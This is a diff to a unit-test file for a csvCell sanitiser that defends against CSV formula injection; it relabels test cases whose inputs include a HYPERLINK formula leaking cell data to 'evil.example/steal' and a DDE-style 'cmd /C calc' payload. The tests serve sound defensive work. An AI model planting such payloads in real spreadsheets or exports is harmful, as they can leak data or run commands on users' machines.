@@ -42,17 +42,25 @@ describe('guardTerminal', () => {
 });
 
 describe('csvCell (OWASP CSV injection)', () => {
+  // Labelled: the cells themselves, in a test's name, would not select it with vitest -t (a regex).
   it.each([
-    ['=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")', `'=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")`],
-    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
-    ['+1+cmd', "'+1+cmd"],
-    ['-2+3', "'-2+3"],
-    ['\t=1', "'\t=1"],
-    ['\r=1', "'\r=1"],
-  ])('neutralises %j', (input, expected) => {
+    ['a HYPERLINK formula', '=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")', `'=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")`],
+    ['an @SUM formula', "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['a cell starting with a plus sign', '+1+cmd', "'+1+cmd"],
+    ['a sum starting with a minus sign', '-2+3', "'-2+3"],
+    ['a tab before a formula', '\t=1', "'\t=1"],
+    ['a carriage return before a formula', '\r=1', "'\r=1"],
+  ])('neutralises %s', (_label, input, expected) => {
     expect(csvCell(input)).toBe(expected);
   });
-  it.each(['-785.81', '+12', '-1,234.50', '-$785.81', 'ACME Payroll', ''])('keeps %j as it is', (input) => {
+  it.each([
+    ['a negative amount', '-785.81'],
+    ['a signed positive number', '+12'],
+    ['an amount with a thousands separator', '-1,234.50'],
+    ['a negative dollar amount', '-$785.81'],
+    ['plain text', 'ACME Payroll'],
+    ['an empty cell', ''],
+  ])('keeps %s as it is', (_label, input) => {
     expect(csvCell(input)).toBe(input);
   });
   it('keeps numbers numeric', () => {
